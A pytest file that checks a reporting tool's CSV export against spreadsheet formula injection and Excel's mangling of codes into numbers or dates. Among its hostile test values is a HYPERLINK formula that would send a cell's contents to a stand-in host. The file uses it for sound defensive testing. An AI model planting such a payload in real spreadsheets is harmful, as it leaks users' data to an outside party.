"""A CSV export holds no cell a spreadsheet takes for a formula, and imports back as it was.

Excel, LibreOffice and Google Sheets read a CSV cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula: a permasalahan "- Kurangnya SDM" showed as #NAME? (and was lost when the file was
saved again), and a "=HYPERLINK(…)" typed into a report ran when a reviewer opened the export."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lkj_tui.bundled import load_bundled_report
from lkj_tui.export.spreadsheet import _EXCEL_CHANGES, as_kode, as_text
from lkj_tui.importing.csvfile import from_text
from lkj_tui.storage.store import Store
from tests.conftest import run_cli

_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"[+-]?\d[\d.,]*%?")

#: Names a hostile or careless author gives nodes (one line each, as `set name` takes them).
_NAMES = (
    "- Kurangnya SDM pengelola data",
    '=HYPERLINK("http://contoh.invalid/?d="&A1;"Klik")',
    "@SUM(A1:A9)",
    "+62 812 0000 0000",
    "'=sudah bertanda",
)


def _cells(data: bytes) -> list[str]:
    rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";")
    return [cell for row in rows for cell in row]


def test_csv_export_has_no_formula_and_imports_back(tmp_path: Path) -> None:
    root = tmp_path / "store"
    Store(root, seed=load_bundled_report)
    for n, name in enumerate(_NAMES, 1):
        result = run_cli("set", f"IKU {n}", "name", name, store=root)
        assert result.returncode == 0, result.stderr
    result = run_cli("set", "IKU 1", "realisasi", "-2,5", store=root)
    assert result.returncode == 0, result.stderr

    first = tmp_path / "ekspor.csv"
    result = run_cli("export", "--format", "csv", "-o", str(first), store=root)
    assert result.returncode == 0, result.stderr
    cells = _cells(first.read_bytes())
    formula_like = [c for c in cells if c.startswith(_TRIGGERS) and not _NUMBER.fullmatch(c)]
    assert formula_like == []
    for name in _NAMES:
        assert "'" + name in cells  # marked as text, whole
    assert "-2,5" in cells  # a negative number stays a number

    # (the file says its report, instansi and year: imported over it as it is, vals15)
    result = run_cli("import", str(first), "--overwrite", store=root)
    assert result.returncode == 0, result.stderr
    second = tmp_path / "lagi.csv"
    result = run_cli("export", "--format", "csv", "-o", str(second), store=root)
    assert result.returncode == 0, result.stderr
    assert second.read_bytes() == first.read_bytes()


@given(st.text(max_size=40))
def test_the_mark_is_taken_off_exactly(text: str) -> None:
    cell = as_text(text)
    assert from_text(cell) == text
    assert not cell.startswith(_TRIGGERS) or _NUMBER.fullmatch(cell)


#: Kodes Excel takes for a number or a date when it opens a CSV (and writes back changed).
_KODES = {"IKU 1": "01", "IKU 2": "1.1", "IKU 3": "1.10", "IKU 4": "2.3.1", "IKU 5": "1E5"}


def test_a_kode_excel_would_change_is_kept_as_text_and_imports_back(tmp_path: Path) -> None:
    """Excel turned "01" into 1, "1.10" into 1,1 and "2.3.1" into a date when a planner opened the
    CSV export and saved it again. Such a kode (and an induk naming it) is written ``="1.10"``,
    which Excel shows and saves as the text itself; the import reads it back as it was, byte for
    byte through a second export. Every other cell is written as before."""
    root = tmp_path / "store"
    Store(root, seed=load_bundled_report)
    before = tmp_path / "sebelum.csv"
    assert run_cli("export", "-f", "csv", "-o", str(before), store=root).returncode == 0
    for node, kode in _KODES.items():
        result = run_cli("set", node, "code", kode, store=root)
        assert result.returncode == 0, result.stderr
    first = tmp_path / "ekspor.csv"
    assert run_cli("export", "-f", "csv", "-o", str(first), store=root).returncode == 0
    cells, old = _cells(first.read_bytes()), _cells(before.read_bytes())
    assert len(cells) == len(old)
    changed = {o: c for o, c in zip(old, cells, strict=True) if o != c}
    # the kodes, and each induk naming one of them, and nothing else
    assert set(changed) == set(_KODES)
    assert set(changed.values()) == {f'="{k}"' for k in _KODES.values()}
    assert sum(c.startswith('="') for c in cells) > len(_KODES)  # the children's induk
    args = ("--report", "kembali-2023", "--instansi", "Dinas X", "--tahun", "2023")
    result = run_cli("import", str(first), *args, store=root)
    assert result.returncode == 0, result.stderr
    shown = run_cli("status", "-r", "kembali-2023", store=root).stdout
    assert all(f"\n{kode} " in shown for kode in _KODES.values()), shown
    result = run_cli("import", str(first), "--overwrite", store=root)  # (as the file says)
    assert result.returncode == 0, result.stderr
    second = tmp_path / "lagi.csv"
    bundled = ("-r", "bengkulu-selatan-setda-2023")
    assert run_cli("export", "-f", "csv", *bundled, "-o", str(second), store=root).returncode == 0
    assert second.read_bytes() == first.read_bytes()


@pytest.mark.parametrize("mangled", ["1,1", "1,02E+11", "02/03/2001", "1-Jan", "Mar-01"])
def test_a_kode_excel_changed_is_refused_with_the_reason(tmp_path: Path, mangled: str) -> None:
    """A CSV that went through Excel: "1.10" came back as "1,1" (Indonesian Excel's number),
    "2.3.1" as a date. The import refuses it (all or nothing), naming the row and the column and
    saying what to do, where it imported the wrong kodes silently. The same for an induk Excel
    changed under a kode it kept (typed as text)."""
    root = tmp_path / "store"
    Store(root, seed=load_bundled_report)
    assert run_cli("set", "IKU 1", "code", "1.10", store=root).returncode == 0
    first = tmp_path / "ekspor.csv"
    assert run_cli("export", "-f", "csv", "-o", str(first), store=root).returncode == 0
    text = first.read_text("utf-8-sig")
    kode = '"=""1.10"""'
    assert text.count(kode) > 1  # its row, and its children's induk
    both = text.replace(kode, mangled)
    induk = both.replace(mangled, "1.10", 1)  # the kode's own row comes first
    args = ("--report", "kembali-2023", "--instansi", "Dinas X", "--tahun", "2023")
    for changed, column in ((both, "(kode)"), (induk, "(induk)")):
        excel = tmp_path / "dari-excel.csv"
        excel.write_text(changed, "utf-8-sig")
        for lang, why in (("id", "Excel tampaknya mengubah kode ini"), ("en", "Excel seems to")):
            result = run_cli("import", str(excel), *args, "--lang", lang, store=root)
            assert result.returncode == 2, result.stdout
            lines = [ln for ln in result.stderr.splitlines() if why in ln]
            assert lines and all(column in ln and f'"{mangled}"' in ln for ln in lines)
            assert len(lines) == (1 if column == "(kode)" else text.count(kode) - 1)
    assert not (root / "kembali-2023.json").exists()


@given(st.text(max_size=40))
def test_a_kode_is_read_back_exactly(text: str) -> None:
    cell = as_kode(text)
    assert from_text(cell) == text
    # never a number or a date for Excel, never a formula but the one giving the kode
    assert cell.startswith('="') or not _EXCEL_CHANGES.fullmatch(cell)
    assert not cell.startswith(_TRIGGERS) or _NUMBER.fullmatch(cell) or cell == f'="{text}"'


@given(st.from_regex(r"[0-9.,/: E+-]{1,12}", fullmatch=True))
def test_a_numeric_kode_is_read_back_exactly(text: str) -> None:
    assert from_text(as_kode(text)) == text


def test_a_long_kode_is_written_in_linear_time() -> None:
    """Hostile: a kode of 200,000 digits that is no number in the end. The pattern for what Excel
    would change had two overlapping repeats around a digit and went back over the kode for
    every digit (quadratic: 0.4 s at 8,000 characters, minutes here); one pass now. The kode is
    written as any text cell is, and a kode Excel would change is still marked."""
    for kode in ("1" * 200_000 + "x", "1." * 100_000 + "x", "-" * 100_000 + "1x"):
        assert as_kode(kode) == as_text(kode)  # (a leading "-" gets its apostrophe)
    assert as_kode("1" * 200_000) == '="' + "1" * 200_000 + '"'
    assert [as_kode(k) for k in ("01", "1.10", "2.3.1", "-1", "P1.2")] == [
        '="01"',
        '="1.10"',
        '="2.3.1"',
        '="-1"',
        "P1.2",
    ]
